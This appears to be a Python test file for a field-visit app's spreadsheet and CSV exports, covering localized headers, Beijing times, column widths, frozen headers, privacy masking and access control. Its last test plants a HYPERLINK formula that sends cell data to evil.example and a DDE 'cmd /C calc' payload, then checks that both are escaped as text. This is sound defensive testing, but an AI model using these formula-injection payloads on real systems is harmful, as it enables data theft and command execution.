"""Exports in the reader's language: headers and words, local times, widths, frozen headers, the unvisited list."""

import csv
import io
import re
import uuid
from datetime import date, datetime

from openpyxl import load_workbook
from sqlalchemy import func, select

from fieldapp.extensions import db
from fieldapp.models import AuditEvent
from fieldapp.reports.cells import column_widths, workbook_bytes
from fieldapp.reports.xlsx import stream_xlsx
from fieldapp.visits.rules import VisitInput
from fieldapp.visits.services import record_visit


def visit(station, site_index, outcome="talked", installs=0, distance=None):
    made, _ = record_visit(
        station.volunteer,
        station.sites[site_index],
        VisitInput(outcome, max(2, installs) if outcome == "talked" else 0, installs),
        str(uuid.uuid4()),
    )
    if distance is not None:
        made.distance_m = distance
    db.session.commit()
    return made


def xlsx_sheet(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.data)).active


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def records(sheet, header_row=1) -> list[dict]:
    header = [cell.value for cell in sheet[header_row]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=header_row + 1, values_only=True)]


def test_the_visit_export_is_in_chinese_unless_the_user_picked_english(world, browser):
    visit(world.a, 0, installs=1)
    visit(world.a, 1, outcome="not_home")
    browser.login("a-supervisor")
    rows = records(xlsx_sheet(browser.client.get("/reports/visits.xlsx")))
    assert [row["入户情况"] for row in rows] == ["已宣传", "不在家"]  # words, not talked / not_home
    assert {row["审核状态"] for row in rows} == {"未审核"}
    lines = csv_rows(browser.client.get("/reports/visits.csv"))
    assert lines[0][:3] == ["登记编号", "日期", "时间（北京时间）"] and lines[1][11] == "已宣传"

    browser.client.get("/lang/en")
    rows = records(xlsx_sheet(browser.client.get("/reports/visits.xlsx")))
    assert list(rows[0])[:4] == ["Visit no.", "Day", "Time (China Standard Time)", "Station"]
    assert [(row["Outcome"], row["Review status"]) for row in rows] == [
        ("Talked", "Not reviewed"),
        ("Not home", "Not reviewed"),
    ]
    lines = csv_rows(browser.client.get("/reports/visits.csv"))
    assert lines[0][11] == "Outcome" and [line[11] for line in lines[1:]] == ["Talked", "Not home"]


def test_a_visit_at_half_past_eleven_utc_is_the_next_morning_in_beijing(world, browser, monkeypatch):
    import fieldapp.visits.services as services

    monkeypatch.setattr(services, "utcnow", lambda: datetime(2026, 3, 4, 23, 30, 15))
    made = visit(world.a, 0)
    assert made.day == date(2026, 3, 5)
    browser.login("a-supervisor")
    (row,) = records(xlsx_sheet(browser.client.get("/reports/visits.xlsx?from=2026-03-01&to=2026-03-31")))
    assert row["日期"] == datetime(2026, 3, 5) and row["时间（北京时间）"] == datetime(2026, 3, 5, 7, 30, 15)
    lines = csv_rows(browser.client.get("/reports/visits.csv?from=2026-03-01&to=2026-03-31"))
    assert lines[1][1:3] == ["2026-03-05", "2026-03-05 07:30:15"]


def test_visit_export_numbers_are_numbers_headers_frozen_and_columns_fit(world, browser):
    visit(world.a, 0, installs=3, distance=12.4)
    made = visit(world.a, 1, outcome="not_home")
    made.gps_far = True
    db.session.commit()
    browser.login("a-supervisor")
    sheet = xlsx_sheet(browser.client.get("/reports/visits.xlsx"))
    talked, not_home = records(sheet)
    assert talked["APP 安装"] == 3 and talked["宣传人数"] == 3 and talked["距门牌（米）"] == 12  # numeric cells
    assert isinstance(talked["登记编号"], int) and not_home["定位提示"] == "没有定位 · 离门牌较远"
    assert sheet.freeze_panes == "A2"
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    # 时间（北京时间） is eight wide characters: 16 + a margin; a date and time needs 20 + a margin.
    assert widths["时间（北京时间）"] == 22 and widths["日期"] == 12 and widths["定位提示"] >= 12


def test_the_weekly_workbook_writer_freezes_below_the_header_and_sizes_columns_from_it_down():
    title = "周报：某某派出所 2026-03-02 至 2026-03-08 （一个很长的标题，比任何一列都宽）"
    rows = [[title], ["名称", "入户数", "note"], ["幸福里社区", 1200, "x" * 80]]
    sheets = [("周报", rows, {0, 1}, 1), ("plain", [["a", "b"], [1, 2]], set()), ("old", rows, {1, 2})]
    book = load_workbook(io.BytesIO(workbook_bytes(sheets)))
    weekly, plain = book["周报"], book["plain"]
    assert weekly.freeze_panes == "A3" and plain.freeze_panes == "A2"
    assert book["old"].freeze_panes == "A3"  # three-part sheets as before: the first bold row is the header
    widths = [weekly.column_dimensions[letter].width for letter in "ABC"]
    assert widths == [12, 8, 50]  # 幸福里社区 is five wide characters; the title above the header is not counted
    assert weekly["B3"].value == 1200 and weekly["A2"].font.b and not weekly["A3"].font.b
    assert column_widths([["=1", "甲"], ["", None]]) == [6, 6]


def test_the_streamed_writer_sizes_columns_from_the_header_and_the_first_rows():
    rows = ([n, f"幸福里小区{n}栋", date(2026, 3, n % 28 + 1)] for n in range(5_000))
    data = b"".join(stream_xlsx("sheet", ["n", "楼栋", "day"], rows, title="未入户名单"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "未入户名单" and [cell.value for cell in sheet[2]] == ["n", "楼栋", "day"]
    assert sheet.freeze_panes == "A3" and sheet.max_row == 5_002 and sheet["A5002"].value == 4_999
    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [6, 18, 12]  # 幸福里小区4999栋: 16
    assert sheet.print_title_rows == "$1:$2" and sheet.print_options.gridLines  # printed on every page, with lines
    assert sheet.page_setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage


def unvisited_page_doors(browser, area_id) -> list[str]:
    page = browser.client.get(f"/areas/{area_id}/unvisited").text
    return re.findall(r'<li><a class="crumb" href="[^"]*">([^<]*)</a>', page)


def test_the_unvisited_list_exports_exactly_the_doors_the_page_lists(world, browser):
    visit(world.a, 0)  # talked: covered, not on the list
    visit(world.a, 1, outcome="not_home")  # knocked on, nobody home: still on the list
    world.a.sites[2].householder = "欧阳娜娜"
    world.a.sites[2].contact_phone = "13900001111"
    db.session.commit()
    browser.login("a-volunteer")
    listed = unvisited_page_doors(browser, world.a.area.id)
    assert listed == ["1号楼 1单元 201", "1号楼 1单元 301", "1号楼 1单元 401"]

    sheet = xlsx_sheet(browser.client.get(f"/areas/{world.a.area.id}/unvisited.xlsx"))
    assert sheet["A1"].value.startswith("未入户名单：甲派出所（截至 ") and sheet.freeze_panes == "A3"
    rows = records(sheet, header_row=2)
    assert [f"{row['楼栋']} {row['门户']}" for row in rows] == listed
    first, second, _third = rows
    assert (first["派出所/镇"], first["社区/村"], first["网格"]) == ("甲派出所", "甲派出所社区", "甲派出所一网格")
    assert (first["楼层"], first["居住人数"], first["类型"]) == (2, 3, "住户")  # numbers as numbers
    assert isinstance(first["上次敲门"], datetime) and first["上次结果"] == "不在家"
    assert second["上次敲门"] is None and second["户主（姓）"] == "欧阳某"
    assert "13900001111" not in sheet_text(sheet) and "欧阳娜娜" not in sheet_text(sheet)

    lines = csv_rows(browser.client.get(f"/areas/{world.a.area.id}/unvisited.csv"))
    assert lines[0][0].startswith("未入户名单：甲派出所") and lines[1][:4] == ["派出所/镇", "社区/村", "网格", "楼栋"]
    assert [f"{line[3]} {line[4]}" for line in lines[2:]] == listed
    assert lines[2][10] == "不在家"
    exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "unvisited.export")).all()
    assert [event.after["format"] for event in exports] == ["xlsx", "csv"]

    browser.client.get("/lang/en")
    sheet = xlsx_sheet(browser.client.get(f"/areas/{world.a.area.id}/unvisited.xlsx"))
    assert sheet["A1"].value.startswith("Not yet visited: 甲派出所, as of ")
    assert records(sheet, header_row=2)[0]["Last outcome"] == "Not home"


def sheet_text(sheet) -> str:
    return " ".join(str(value) for row in sheet.iter_rows(values_only=True) for value in row if value is not None)


def test_another_stations_unvisited_list_cannot_be_downloaded(world, browser):
    for username in ("a-volunteer", "a-lead"):
        browser.login(username)
        for kind in ("xlsx", "csv"):
            assert browser.client.get(f"/areas/{world.b.area.id}/unvisited.{kind}").status_code == 404
            assert browser.client.get(f"/areas/{world.b.building.id}/unvisited.{kind}").status_code == 404
        browser.post("/logout", {})
    assert db.session.scalar(select(func.count(AuditEvent.id)).where(AuditEvent.action == "unvisited.export")) == 0
    browser.login("a-lead")  # a lead's own community: allowed
    assert browser.client.get(f"/areas/{world.a.community.id}/unvisited.xlsx").status_code == 200


def test_the_unvisited_page_links_its_downloads(world, browser):
    browser.login("a-volunteer")
    page = browser.client.get(f"/areas/{world.a.area.id}/unvisited").text
    assert f"/areas/{world.a.area.id}/unvisited.xlsx" in page and f"/areas/{world.a.area.id}/unvisited.csv" in page


def test_names_that_look_like_formulas_come_out_as_text(world, browser):
    world.a.building.name = '=HYPERLINK("http://evil.example/?"&A1,"看")'
    world.a.volunteer.display_name = "+cmd|' /C calc'!A0"
    db.session.commit()
    visit(world.a, 0)
    browser.login("a-supervisor")
    unvisited = records(xlsx_sheet(browser.client.get(f"/areas/{world.a.area.id}/unvisited.xlsx")), header_row=2)
    assert {row["楼栋"] for row in unvisited} == {"'" + world.a.building.name}
    lines = csv_rows(browser.client.get(f"/areas/{world.a.area.id}/unvisited.csv"))
    assert {line[3] for line in lines[2:]} == {"'" + world.a.building.name}
    (row,) = records(xlsx_sheet(browser.client.get("/reports/visits.xlsx")))
    assert row["楼栋"].startswith("'=") and row["志愿者"] == "'+cmd|' /C calc'!A0"
